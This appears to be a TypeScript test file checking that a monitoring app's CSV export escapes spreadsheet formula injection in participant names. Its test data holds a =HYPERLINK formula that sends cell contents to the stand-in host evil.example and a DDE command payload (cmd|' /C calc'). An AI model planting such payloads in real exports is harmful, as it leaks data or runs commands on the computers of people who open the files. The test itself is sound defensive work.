// A formula in a participant's name must come out of the monitoring CSV as inert text: a spreadsheet
// opening the export would otherwise run it (=HYPERLINK, =cmd|...). Read back with csv-parse.
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvSafeCell } from '../../server/csv-safe';
import { monitoringCsv } from '../../server/services/exports';
import { createTestUser } from '../helpers/app';
import { testDb } from '../helpers/db';
import { FINAL_AS_OF, writeProject } from '../indicators/project-fixture';

const db = await testDb();
// A coordinator of every project (the services scope by the user's projects).
const coordinator = { id: (await createTestUser(db, 'coordinator')).id, role: 'coordinator' as const };

describe('CSV export', () => {
  it('escapes cells that start with = + - @ tab or CR, and leaves the others', () => {
    for (const v of ['=1+1', '+48 600', '-2+3', '@SUM(A1)', '\t=1', '\r=1']) expect(csvSafeCell(v)).toBe(`'${v}`);
    for (const v of ['Zofia', '', 'a=b', "'=1", ' =1']) expect(csvSafeCell(v)).toBe(v);
  });

  it('a formula in a name comes out escaped', async () => {
    const fx = await writeProject(db);
    const first = '=HYPERLINK("http://evil.example/?"&A1,"Kliknij")';
    const last = '@SUM(1+1)*cmd|\' /C calc\'!A0';
    await db.updateTable('applications').set({ first_name: first, last_name: last }).where('id', '=', fx.ids[0]!).execute();
    const file = await monitoringCsv(db, coordinator, fx.projectId, FINAL_AS_OF);
    const rows = parse(file.body, { bom: true, delimiter: ';', columns: true }) as Record<string, string>[];
    const { pesel } = await db.selectFrom('applications').select('pesel').where('id', '=', fx.ids[0]!).executeTakeFirstOrThrow();
    const row = rows.find((r) => r.PESEL === pesel);
    expect(row).toMatchObject({ Imię: `'${first}`, Nazwisko: `'${last}` });
    // Nothing else starts a formula: every cell of every row is inert.
    for (const r of rows) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });
});
